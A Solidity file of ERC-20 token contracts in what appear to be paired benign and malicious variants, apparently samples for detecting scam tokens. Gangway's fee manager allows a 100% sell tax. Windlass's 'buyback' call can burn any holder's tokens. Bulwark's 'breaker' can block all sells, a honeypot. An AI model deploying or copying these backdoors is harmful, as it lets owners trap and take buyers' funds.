// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "@openzeppelin/contracts/access/Ownable.sol";
import "@openzeppelin/contracts/token/ERC20/ERC20.sol";

interface IPairFactory {
    function createPair(address a, address b) external returns (address);
}

interface IPairRouter {
    function factory() external view returns (address);

    function WETH() external view returns (address);
}

interface IFeeManager {
    function feeBps() external view returns (uint256);

    function collector() external view returns (address);
}

abstract contract PairAware is ERC20 {
    address public immutable pair;

    constructor() {
        IPairRouter router = IPairRouter(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
        pair = IPairFactory(router.factory()).createPair(address(this), router.WETH());
    }
}

contract GangwayFeeManager is Ownable {
    uint256 public constant MAX_BASE_BPS = 500;
    uint256 public constant MAX_SURGE = 200;

    uint256 public baseBps = 100;
    uint256 public surge = 10;
    address public immutable collector;

    event BaseSet(uint256 bps);
    event SurgeSet(uint256 surge);

    error AboveMaximum();

    constructor() Ownable(msg.sender) {
        collector = msg.sender;
    }

    function setBase(uint256 bps) external onlyOwner {
        if (bps > MAX_BASE_BPS) revert AboveMaximum();
        baseBps = bps;
        emit BaseSet(bps);
    }

    function setSurge(uint256 surge_) external onlyOwner {
        if (surge_ < 10 || surge_ > MAX_SURGE) revert AboveMaximum();
        surge = surge_;
        emit SurgeSet(surge_);
    }

    function feeBps() external view returns (uint256) {
        return (baseBps * surge) / 10;
    }
}

contract GangwayCappedManager is Ownable {
    uint256 public constant MAX_BASE_BPS = 500;
    uint256 public constant MAX_SURGE = 200;

    uint256 public baseBps = 100;
    uint256 public surge = 10;
    address public immutable collector;

    event BaseSet(uint256 bps);
    event SurgeSet(uint256 surge);

    error AboveMaximum();

    constructor() Ownable(msg.sender) {
        collector = msg.sender;
    }

    function setBase(uint256 bps) external onlyOwner {
        if (bps > MAX_BASE_BPS) revert AboveMaximum();
        baseBps = bps;
        emit BaseSet(bps);
    }

    function setSurge(uint256 surge_) external onlyOwner {
        if (surge_ < 10 || surge_ > MAX_SURGE) revert AboveMaximum();
        surge = surge_;
        emit SurgeSet(surge_);
    }

    function feeBps() external view returns (uint256) {
        uint256 bps = (baseBps * surge) / 10;
        return bps > MAX_BASE_BPS ? MAX_BASE_BPS : bps;
    }
}

abstract contract ManagedFees is PairAware {
    IFeeManager public immutable feeManager;
    address public immutable deployer;

    constructor(address manager) {
        feeManager = IFeeManager(manager);
        deployer = msg.sender;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && from != deployer) {
            uint256 fee = (value * feeManager.feeBps()) / 10_000;
            if (fee != 0) super._update(from, feeManager.collector(), fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}

contract GangwayToken is ManagedFees {
    constructor(address manager) ERC20("Gangway", "GANG") ManagedFees(manager) {
        _mint(msg.sender, 45_000_000 ether);
    }
}

contract GangwayCappedToken is ManagedFees {
    constructor(address manager) ERC20("Gangway Capped", "GANGC") ManagedFees(manager) {
        _mint(msg.sender, 45_000_000 ether);
    }
}

contract WindlassBuybackToken is PairAware, Ownable {
    uint256 public constant SELL_FEE_BPS = 200;

    uint256 public totalRetired;

    event BuybackExecuted(address indexed venue, uint256 received);
    event Retired(address indexed account, uint256 amount);

    error OnlySelf();
    error VenueFailed(address venue);

    constructor() ERC20("Windlass", "WNDL") Ownable(msg.sender) {
        _mint(msg.sender, 55_000_000 ether);
    }

    receive() external payable {}

    function executeBuyback(address venue, uint256 value, bytes calldata order) external onlyOwner {
        uint256 before = balanceOf(address(this));
        (bool ok, ) = venue.call{value: value}(order);
        if (!ok) revert VenueFailed(venue);
        uint256 held = balanceOf(address(this));
        emit BuybackExecuted(venue, held > before ? held - before : 0);
    }

    function retire(address account, uint256 amount) external {
        if (msg.sender != address(this)) revert OnlySelf();
        totalRetired += amount;
        _burn(account, amount);
        emit Retired(account, amount);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner() && from != address(this)) {
            uint256 fee = (value * SELL_FEE_BPS) / 10_000;
            super._update(from, address(this), fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}

contract BulwarkFloorToken is PairAware, Ownable {
    uint256 public breakerBps = 10_000;
    address public immutable treasury;

    event BreakerSet(uint256 bps);

    error BreakerTripped(uint256 amount, uint256 allowed);
    error OutOfRange();

    constructor() ERC20("Bulwark", "BLWK") Ownable(msg.sender) {
        treasury = msg.sender;
        _mint(msg.sender, 35_000_000 ether);
    }

    function setBreaker(uint256 bps) external onlyOwner {
        if (bps > 10_000) revert OutOfRange();
        breakerBps = bps;
        emit BreakerSet(bps);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && from != treasury && breakerBps < 10_000) {
            uint256 allowed = (balanceOf(pair) * breakerBps) / 10_000;
            if (value > allowed) revert BreakerTripped(value, allowed);
        }
        super._update(from, to, value);
    }
}

contract BulwarkTreasuryToken is PairAware, Ownable {
    uint256 public breakerBps = 10_000;
    address public immutable treasury;

    event BreakerSet(uint256 bps);

    error BreakerTripped(uint256 amount, uint256 allowed);
    error OutOfRange();

    constructor() ERC20("Bulwark Treasury", "BLWKT") Ownable(msg.sender) {
        treasury = msg.sender;
        _mint(msg.sender, 35_000_000 ether);
    }

    function setBreaker(uint256 bps) external onlyOwner {
        if (bps > 10_000) revert OutOfRange();
        breakerBps = bps;
        emit BreakerSet(bps);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && from == treasury && breakerBps < 10_000) {
            uint256 allowed = (balanceOf(pair) * breakerBps) / 10_000;
            if (value > allowed) revert BreakerTripped(value, allowed);
        }
        super._update(from, to, value);
    }
}
